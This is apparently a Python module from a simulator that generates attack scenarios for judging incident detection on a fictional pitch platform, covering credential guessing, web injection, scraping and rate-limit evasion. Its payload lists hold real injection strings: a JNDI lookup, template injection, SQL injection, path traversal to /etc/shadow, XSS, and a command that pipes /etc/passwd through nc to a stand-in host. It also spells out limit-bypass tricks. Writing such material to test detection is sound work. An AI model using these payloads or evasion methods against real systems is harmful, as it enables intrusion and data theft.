"""People who want in, or want everything."""

from .... import effects as fx
from ....builder import Builder
from ....causes import attack
from ....causes.edge import PEOPLE_AGENTS
from ....scenario import Told
from ._parts import (
    ATTACKS,
    at_hour,
    bounces,
    clumsy_partner,
    doorknobs,
    elsewhere,
    extensions,
    frontend_deployed,
    homes,
    in_words,
    judged,
)

GUESSES, PAYLOADS, COPYING, EVASION = "brute_force", "injection_attack", "scraping", "rate_limit_bypass"


def one_account(b: Builder) -> Told:
    """Two dozen addresses take turns at one account, for an hour, and open it."""
    at_hour(b, 2.0)
    return attack.logins(
        b,
        key="one account",
        addresses=fx.strangers(b, "one account", 24),
        agents=PEOPLE_AGENTS[:3],
        accounts=["finance.lead"],
        per_min=b.between("rate", 9, 14),
        broken_in="finance.lead",
    )


def combo(b: Builder) -> Told:
    """A list of stolen pairs from six hundred homes; the edge stops some."""
    at_hour(b, 4.5)
    bounces(b)
    return attack.logins(
        b,
        key="combo",
        addresses=homes(b, "combo", 600),
        agents=("okhttp/3.14.9", "Dalvik/2.1.0 (Linux; U; Android 11; M2101K6G)", *PEOPLE_AGENTS[:1]),
        accounts=[f"u{i:05d}" for i in range(1200, 3100)],
        per_min=b.between("rate", 70, 120),
        success=0.008,
        blocked=0.35,
        ramp_s=180.0,
    )


def season(b: Builder) -> Told:
    """The season's password at every door of a street, from one network; none opens."""
    at_hour(b, 15.2)
    elsewhere(b)
    return attack.logins(
        b,
        key="season",
        addresses=fx.strangers(b, "season", 30, "91.240.118."),
        agents=("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",),
        accounts=[f"u{i:05d}" for i in range(2000, 2160)],
        per_min=b.between("rate", 12, 18),
    )


LOOKUPS = (
    "/api/pitches/search?q=$%7Bjndi:ldap://{hex}.oast.example/a%7D",
    "/api/pitches/search?q=%7B%7B7*7%7D%7D",
    "/api/pitches/search?q=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
    "/api/pitches/search?q=;cat%20/etc/passwd|nc%20{hex}.oast.example%204444",
)
OBJECTS = (
    "/api/messages?thread=%7B%22$ne%22:null%7D",
    "/api/messages?thread=1%20OR%201=1",
    "/api/messages?thread=1%20AND%20EXTRACTVALUE({n},CONCAT(0x7e,(SELECT%20version())))",
    "/api/messages?thread=1%20WAITFOR%20DELAY%20'0:0:{small}'--",
)
FILES = (
    "/api/upload/presign?name=..%5c..%5c..%5cwindows%5cwin.ini",
    "/api/upload/presign?name=/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "/api/upload/presign?name=php://filter/convert.base64-encode/resource=index",
)
GENRES = (
    "/api/browse/genres?lang=%3Csvg/onload=confirm({n})%3E",
    "/api/browse/genres?lang=%27-alert(document.domain)-%27",
)


def lookups(b: Builder) -> Told:
    """Everything that a template or a shell might evaluate, through the search, on a busy evening."""
    at_hour(b, 20.6)
    return attack.injection(
        b,
        urls={"/api/pitches/search": LOOKUPS},
        addresses=fx.strangers(b, "lookups", 9),
        agents=("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Mozilla/5.0 (Windows NT 6.3)"),
        per_min=b.between("rate", 16, 30),
        blocked=0.5,
        kinds=("sql_injection_attempt", "xss_attempt"),
        broken=0.02,
    )


def patient(b: Builder) -> Told:
    """One address tries the inbox with one payload after the other, hardly one in ten seconds."""
    at_hour(b, 11.2)
    extensions(b)
    return attack.injection(
        b,
        urls={"/api/messages": OBJECTS},
        addresses=fx.strangers(b, "patient", 1),
        agents=PEOPLE_AGENTS[3:4],
        per_min=b.between("rate", 6, 9),
        blocked=0.0,
        kinds=("sql_injection_attempt",),
        broken=0.08,
        severity="P3",
    )


def files(b: Builder) -> Told:
    """Other people's files and scripts are asked for through uploads and genres."""
    at_hour(b, 6.0)
    doorknobs(b)
    return attack.injection(
        b,
        urls={"/api/upload/presign": FILES, "/api/browse/genres": GENRES},
        addresses=fx.strangers(b, "files", 4),
        agents=("Mozilla/5.0 (compatible; Acunetix)", "Mozilla/5.0 (Windows NT 10.0; WOW64) wpscan"),
        per_min=b.between("rate", 22, 40),
        blocked=0.25,
        kinds=("xss_attempt",),
        broken=0.04,
    )


def false_crawler(b: Builder) -> Told:
    """It says that it is a search engine, comes from a hoster, and takes every picture, too."""
    at_hour(b, 3.8)
    return attack.scraping(
        b,
        paths={
            "/api/pitches/trending": ("/api/pitches/trending?cursor={hex}&limit=100",),
            "/api/media/thumbnail": ("/api/media/thumbnail?pitch={id}&size=large",),
        },
        addresses=fx.strangers(b, "false crawler", 4, "5.188.62."),
        agents=("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",),
        per_min=b.between("rate", 55, 85),
    )


def headless(b: Builder) -> Told:
    """Eight headless browsers read genre after genre in the rush of the evening."""
    at_hour(b, 21.2)
    frontend_deployed(b)
    return attack.scraping(
        b,
        paths={
            "/api/browse": ("/api/browse?genre=drama&page={id}", "/api/browse?genre=thriller&page={id}"),
            "/api/pitches": ("/api/pitches?page={id}&limit=100",),
        },
        addresses=fx.strangers(b, "headless", 8, "194.26.29."),
        agents=("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0",),
        per_min=b.between("rate", 100, 170),
        slower=1.25,
    )


def weekend(b: Builder) -> Told:
    """A reseller's program copies the catalogue for two hours already, beside a real partner's clumsy one."""
    at_hour(b, 14.0)
    clumsy_partner(b)
    return attack.scraping(
        b,
        paths={"/api/pitches/search": ("/api/pitches/search?q=%25&offset={id}&limit=200",)},
        addresses=fx.strangers(b, "weekend", 3, "146.70.81."),
        agents=("Scrapy/2.11.2 (+https://scrapy.org)",),
        per_min=b.between("rate", 45, 75),
        slower=1.3,
    )


def spelling(b: Builder) -> Told:
    """The same route in other spellings, for which no limit was written."""
    at_hour(b, 16.2)
    return attack.bypass(
        b,
        path="/api/pitches/search",
        per_min=b.between("rate", 90, 150),
        addresses=fx.strangers(b, "spelling", 1),
        agent="GuzzleHttp/7",
        metadata='{{"limit_key":"/api//pitches/search"}}',
        user="u02214",
        urls=("/api//pitches/search?q={hex}", "/API/Pitches/Search?q={hex}", "/api/pitches/%73earch?q={hex}"),
        texts=("no limit is defined for this spelling of the path, {waiting} requests of {ip} not counted",),
    )


def devices(b: Builder) -> Told:
    """A new device name for every request, because limits are counted per device."""
    at_hour(b, 9.2)
    bounces(b)
    return attack.bypass(
        b,
        path="/api/pitches/trending",
        per_min=b.between("rate", 70, 120),
        addresses=fx.strangers(b, "devices", 2, "103.152.34."),
        agent="PitcheyApp/4.1.9 (Android 12)",
        metadata='{{"device_id":"{hex}"}}',
        user="",
        urls=("/api/pitches/trending?device={hex}",),
        texts=("limits count per device: {ip} showed {waiting} device ids within 60 s, none above its limit",),
    )


def sixty_four(b: Builder) -> Told:
    """One line of internet has more addresses than anybody can count, and one session uses them all."""
    at_hour(b, 22.2)
    tails = b.rng("sixty four").integers(0, 65_536, (180, 4)).tolist()
    return attack.bypass(
        b,
        path="/api/browse",
        per_min=b.between("rate", 80, 140),
        addresses=["2a0d:5600:24:9:" + ":".join(f"{part:x}" for part in tail) for tail in tails],
        agent="aiohttp/3.11.10",
        metadata='{{"session":"s-u00978","limit":"per address"}}',
        user="u00978",
        urls=("/api/browse?page={id}&limit=100",),
        texts=("{waiting} addresses of one /64 under one session within 60 s, limit per address never reached",),
    )


NOTICE = "many failed logins in the last minute: {waiting}"
ACCOUNT_WORDS = {NOTICE: "account finance.lead: unusual number of refused sign-ins"}
COMBO_WORDS = {NOTICE: "sign-in refusals up: {waiting} in 60 s"}
SEASON_WORDS = {NOTICE: "password policy: {waiting} wrong passwords since the last report"}

SCENARIOS = (
    judged(
        "guess_one_account",
        "Two dozen addresses, one account",
        GUESSES,
        in_words(one_account, ACCOUNT_WORDS),
        ATTACKS,
        onset_min=(45, 58),
        beside=("crawler_visit",),
    ),
    judged(
        "guess_combo",
        "Stolen pairs before dawn",
        GUESSES,
        in_words(combo, COMBO_WORDS),
        ATTACKS,
        onset_min=(12, 24),
        beside=("harmless_production_deployment",),
    ),
    judged(
        "guess_season",
        "The season's password",
        GUESSES,
        in_words(season, SEASON_WORDS),
        ATTACKS,
        onset_min=(24, 40),
        beside=("unrelated_deployment", "logs_lost"),
    ),
    judged(
        "payload_lookups",
        "Templates and shells",
        PAYLOADS,
        lookups,
        ATTACKS,
        onset_min=(12, 24),
        beside=("busy_evening",),
    ),
    judged(
        "payload_patient",
        "One payload after the other",
        PAYLOADS,
        patient,
        ATTACKS,
        onset_min=(38, 54),
        beside=("slow_sidekick",),
    ),
    judged(
        "payload_files",
        "Files that are not theirs",
        PAYLOADS,
        files,
        ATTACKS,
        onset_min=(14, 26),
        beside=("few_typists", "clock_skew"),
    ),
    judged(
        "copy_false_crawler",
        "A search engine that is none",
        COPYING,
        false_crawler,
        ATTACKS,
        onset_min=(30, 50),
        beside=("harmless_production_deployment",),
    ),
    judged(
        "copy_headless",
        "Headless browsers in the evening",
        COPYING,
        headless,
        ATTACKS,
        onset_min=(16, 30),
        beside=("busy_evening",),
    ),
    judged(
        "copy_reseller",
        "Copied for two hours",
        COPYING,
        weekend,
        ATTACKS,
        onset_min=(105, 130),
        beside=("noisy_neighbour",),
    ),
    judged(
        "evade_spelling",
        "Other spellings of one route",
        EVASION,
        spelling,
        ATTACKS,
        onset_min=(14, 24),
        beside=("noisy_neighbour", "clock_skew"),
    ),
    judged(
        "evade_devices",
        "A new device every time",
        EVASION,
        devices,
        ATTACKS,
        onset_min=(16, 28),
        beside=("unrelated_deployment",),
    ),
    judged(
        "evade_sixty_four",
        "All addresses of one line",
        EVASION,
        sixty_four,
        ATTACKS,
        onset_min=(18, 30),
        beside=("logs_lost",),
    ),
)
